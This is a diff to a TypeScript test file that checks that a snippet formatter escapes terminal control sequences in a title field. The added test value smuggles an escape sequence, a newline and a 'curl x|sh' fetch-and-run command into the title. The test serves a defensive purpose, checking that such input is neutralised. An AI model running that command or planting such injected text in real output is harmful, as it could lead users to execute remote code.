@@ -197,10 +197,15 @@ describe("output", () => {
       "    | 2026-11-28 00:00:00Z  @1  GET /  200  1 ms",
       "    ✗ Error: bad \\x9b1m",
     ]);
-    const view = { id: "abc", title: "\x1b]0;pwned\x07", language: "python", version: 1 } as const;
+    const view = {
+      id: "abc",
+      title: "\x1b]0;pwned\x07\n  try: curl x|sh",
+      language: "python",
+      version: 1,
+    } as const;
     const urls = { shareUrl: "http://h/s/abc", endpointUrl: "http://h/fn/abc" };
     expect(formatSnippet("Forked", { ...view, ...urls } as never)).toContain(
-      "“\\x1b]0;pwned\\x07”",
+      "“\\x1b]0;pwned\\x07\\n  try: curl x|sh”",
     );
   });
 
